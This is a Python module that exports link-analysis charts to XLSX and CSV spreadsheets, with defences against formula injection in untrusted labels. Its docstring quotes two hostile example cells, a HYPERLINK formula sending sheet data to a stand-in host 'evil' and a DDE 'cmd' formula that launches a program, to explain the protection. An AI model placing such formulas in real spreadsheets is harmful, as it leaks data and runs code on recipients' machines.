"""Entities and links as spreadsheets (XLSX and CSV) for banks, police and campaign teams.

Every label came from somewhere untrusted (a scraped advert, a hotline note), and a spreadsheet
program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula: a label such as
``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet, ``=cmd|'/c calc'!A1`` would run a
program. CSV has no types, so its text fields follow workbench.io.cells (an apostrophe before
any piece that could start a formula, in any locale's way of splitting cells). XLSX has types:
text cells are written as strings (inline strings, which no spreadsheet program evaluates, and
formatted as Text so that editing one does not turn it into a formula), exactly as they are,
so a phone number ``+447700900123`` still matches. Numbers, dates and flags are written as
real typed values, so a negative amount stays a number.
"""

from __future__ import annotations

import os
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from workbench.export.xlsx_save import save_workbook
from workbench.io.atomic import atomic_path
from workbench.io.cells import FORMULA_STARTS, csv_line, neutralise
from workbench.io.interchange.common import xml_safe
from workbench.model import Chart, Entity, Kind, Link, Value

Measures = Mapping[str, Mapping[str, float]]  # measure name -> {entity id: value}


@dataclass(frozen=True, slots=True)
class Table:
    """A sheet as plain data: header names and rows of typed cells (str, float, datetime...)."""

    name: str
    headers: list[str]
    rows: list[list[Any]]


def _cell(value: Value) -> Any:
    """A typed cell for an attribute value: numbers, dates and flags stay typed."""
    v = value.value
    if value.kind in (Kind.NUMBER, Kind.DATETIME, Kind.FLAG):
        return v
    if value.kind is Kind.COORDINATES:
        return f"{v[0]:.6f}, {v[1]:.6f}"
    return str(v)


def _sources(item: Entity | Link) -> tuple[str, str]:
    described = "; ".join(s.describe() for s in item.provenance)
    grades = ", ".join(sorted({s.grade for s in item.provenance if s.grade}))
    return described, grades


def _attribute_names(items: Iterable[Entity | Link]) -> list[str]:
    names: dict[str, None] = {}
    for item in items:
        names.update(dict.fromkeys(item.attributes))
    return sorted(names, key=str.casefold)


def _unique(header: str, taken: set[str]) -> str:
    """Attribute names may clash with our own column names; keep both, visibly."""
    name = header
    while name in taken:
        name = f"{name} (attribute)"
    taken.add(name)
    return name


def entity_table(chart: Chart, ids: Iterable[str] | None = None,
                 measures: Measures | None = None) -> Table:
    """Entities with identity, position, date, coordinates, attributes, measures and sources.

    ``measures`` are per-entity figures computed elsewhere (betweenness, ...); the number of
    links is always included because an analyst sorting by it finds the hubs.
    """
    entities = [chart.entity(i) for i in ids] if ids is not None else list(chart.entities.values())
    measures = dict(measures or {})
    attributes = _attribute_names(entities)
    fixed = ["ID", "Type", "Label", "Identity", "X", "Y", "Date", "Latitude", "Longitude",
             "Links"]
    taken = set(fixed)
    measure_headers = [_unique(name, taken) for name in measures]
    attribute_headers = [_unique(name, taken) for name in attributes]
    headers = [*fixed, *measure_headers, *attribute_headers, "Sources", "Grades"]
    rows = []
    for e in entities:
        lat, lon = e.coordinates if e.coordinates is not None else (None, None)
        described, grades = _sources(e)
        row: list[Any] = [e.id, e.type, e.label, e.identity or "", e.x, e.y, e.date, lat, lon,
                          len(chart.links_of(e.id))]
        row += [values.get(e.id) for values in measures.values()]
        row += [_cell(e.attributes[a]) if a in e.attributes else None for a in attributes]
        row += [described, grades]
        rows.append(row)
    return Table("Entities", headers, rows)


def link_table(chart: Chart, ids: Iterable[str] | None = None) -> Table:
    """Links with both ends (id and label), direction, strength, attributes and sources."""
    links = [chart.link(i) for i in ids] if ids is not None else list(chart.links.values())
    attributes = _attribute_names(links)
    fixed = ["ID", "Type", "Label", "From ID", "From", "To ID", "To", "Direction", "Strength",
             "Date"]
    taken = set(fixed)
    attribute_headers = [_unique(name, taken) for name in attributes]
    headers = [*fixed, *attribute_headers, "Sources", "Grades"]
    rows = []
    for lk in links:
        described, grades = _sources(lk)
        row: list[Any] = [lk.id, lk.type, lk.label, lk.end1, chart.entity(lk.end1).label,
                          lk.end2, chart.entity(lk.end2).label, lk.direction.value,
                          lk.strength.value, lk.date]
        row += [_cell(lk.attributes[a]) if a in lk.attributes else None for a in attributes]
        row += [described, grades]
        rows.append(row)
    return Table("Links", headers, rows)


def tables(chart: Chart, entity_ids: Iterable[str] | None = None,
           link_ids: Iterable[str] | None = None,
           measures: Measures | None = None) -> tuple[Table, Table]:
    """Both tables; with ``entity_ids`` only (a selection), the links among them."""
    if entity_ids is not None:
        entity_ids = list(entity_ids)
        if link_ids is None:
            chosen = set(entity_ids)
            link_ids = [lk.id for lk in chart.links.values()
                        if lk.end1 in chosen and lk.end2 in chosen]
    return entity_table(chart, entity_ids, measures), link_table(chart, link_ids)


# ----- XLSX ------------------------------------------------------------------------------------
def _width(value: Any) -> int:
    if value is None:
        return 0
    if isinstance(value, datetime):
        return 16
    return min(len(str(value)), 60)


EXCEL_CELL_LIMIT = 32_767  # characters; Excel calls a file with longer cells damaged


DATE_FORMAT = "yyyy-mm-dd hh:mm"
UTC_DATE_FORMAT = 'yyyy-mm-dd hh:mm "UTC"'


def _xlsx_text(value: str) -> str:
    """XLSX is XML: control characters become a visible '�'; a cell longer than Excel
    holds is cut, visibly."""
    text = xml_safe(value)
    if len(text) > EXCEL_CELL_LIMIT:  # a hub with thousands of sources
        keep = EXCEL_CELL_LIMIT - 120  # room for the note
        text = (text[:keep] + f" … [cut: {len(text) - keep:,} more characters; Excel "
                "holds 32,767 per cell; the CSV export has all]")
    return text


def _xlsx_cell(sheet: Any, value: Any) -> Any:
    """What to append for one value: text as a string cell (a formula-like one also formatted
    as Text), a date as a date cell, anything else as it is.

    Excel cannot hold a time zone: a date with one is written in UTC and its format says so
    (``2024-03-01 08:00 UTC``), so dates from sources in different zones sort and compare
    right and nobody mistakes them for local time."""
    from openpyxl.cell import WriteOnlyCell

    if isinstance(value, str):
        text = _xlsx_text(value)
        if not text.lstrip(" ").startswith(FORMULA_STARTS):
            return text  # openpyxl writes it as a string as it is
        cell = WriteOnlyCell(sheet, value=text)
        cell.data_type = "s"  # openpyxl would make '=...' a formula
        cell.number_format = "@"
        return cell
    if isinstance(value, datetime):  # a date cell shown as a date, not a serial number
        number_format = DATE_FORMAT
        if value.tzinfo is not None and value.utcoffset() is not None:
            value = value.astimezone(UTC).replace(tzinfo=None)
            number_format = UTC_DATE_FORMAT
        cell = WriteOnlyCell(sheet, value=value.replace(tzinfo=None))
        cell.number_format = number_format
        return cell
    return value


def _fill_sheet(workbook: Any, table: Table, marking: str = "", title: str = "") -> None:
    """A write-only sheet (streamed: a 30,000-row sheet in a few seconds, little memory).
    Printed, every page carries the protective marking at top and bottom and repeats the
    header row, as handling rules for OFFICIAL-SENSITIVE and similar material require."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    sheet = workbook.create_sheet(table.name)
    if marking:
        sheet.oddHeader.center.text = xml_safe(marking).replace("&", "&&")
        sheet.oddFooter.center.text = xml_safe(marking).replace("&", "&&")
    sheet.oddFooter.right.text = "Page &P of &N"
    sheet.oddFooter.left.text = xml_safe(f"{title} – {table.name}").replace("&", "&&")
    sheet.print_title_rows = "1:1"
    widths = [len(h) + 4 for h in table.headers]  # room for the filter button
    for row in table.rows:
        for c, value in enumerate(row):
            widths[c] = max(widths[c], _width(value) + 2)
    for c, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(c)].width = min(max(width, 6), 62)
    sheet.freeze_panes = "A2"
    if table.headers:
        last = get_column_letter(len(table.headers))
        sheet.auto_filter.ref = f"A1:{last}{len(table.rows) + 1}"
    header_font = Font(name="Calibri", bold=True, color="FFFFFF")
    header_fill = PatternFill("solid", fgColor="1F3A5F")
    header = []
    for text in table.headers:
        cell = WriteOnlyCell(sheet, value=_xlsx_text(text))
        cell.data_type = "s"
        cell.font, cell.fill = header_font, header_fill
        cell.alignment = Alignment(vertical="center")
        header.append(cell)
    sheet.append(header)
    for row in table.rows:
        sheet.append([_xlsx_cell(sheet, v) for v in row])


def write_xlsx(chart: Chart, path: str | os.PathLike[str], *,
               entity_ids: Iterable[str] | None = None, link_ids: Iterable[str] | None = None,
               measures: Measures | None = None) -> None:
    """One workbook, a sheet each for entities and links (bold frozen header, filters)."""
    def fill(workbook: Any) -> None:
        for table in tables(chart, entity_ids, link_ids, measures):
            _fill_sheet(workbook, table, chart.marking, chart.title)
        workbook.properties.title = xml_safe(chart.title)
        workbook.properties.creator = xml_safe(chart.author) or "Workbench"
        if chart.marking:
            workbook.properties.keywords = xml_safe(chart.marking)

    with atomic_path(path) as tmp:
        save_workbook(fill, tmp)


# ----- CSV -------------------------------------------------------------------------------------
def _csv_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, float) and value.is_integer() and abs(value) < 2**53:
        return str(int(value))
    if isinstance(value, int | float):
        return repr(value)
    return neutralise(str(value))


def write_table_csv(table: Table, path: str | os.PathLike[str]) -> None:
    """UTF-8 with a byte-order mark, so Excel on Windows shows accents and Cyrillic right."""
    with atomic_path(path) as tmp, open(tmp, "w", encoding="utf-8-sig", newline="") as handle:
        _write_table(table, handle)


def _write_table(table: Table, handle: Any) -> None:
    handle.write(csv_line(neutralise(h) for h in table.headers))
    for row in table.rows:
        handle.write(csv_line(_csv_text(v) for v in row))


def csv_paths(path: str | os.PathLike[str]) -> tuple[Path, Path]:
    """``out.csv`` becomes ``out-entities.csv`` and ``out-links.csv``: CSV holds one table."""
    path = Path(path)
    stem = path.name[: -len(path.suffix)] if path.suffix else path.name
    return (path.with_name(f"{stem}-entities.csv"), path.with_name(f"{stem}-links.csv"))


def write_csv(chart: Chart, path: str | os.PathLike[str], *,
              entity_ids: Iterable[str] | None = None, link_ids: Iterable[str] | None = None,
              measures: Measures | None = None) -> tuple[Path, Path]:
    """Two CSV files beside ``path`` (see csv_paths); returns their paths."""
    entities_path, links_path = csv_paths(path)
    entity_tab, link_tab = tables(chart, entity_ids, link_ids, measures)
    # Both or neither: a failed links file does not leave a new entities file beside an old
    # links file.
    with atomic_path(entities_path) as entities_tmp, atomic_path(links_path) as links_tmp:
        for table, tmp in ((entity_tab, entities_tmp), (link_tab, links_tmp)):
            with open(tmp, "w", encoding="utf-8-sig", newline="") as handle:
                _write_table(table, handle)
    return entities_path, links_path
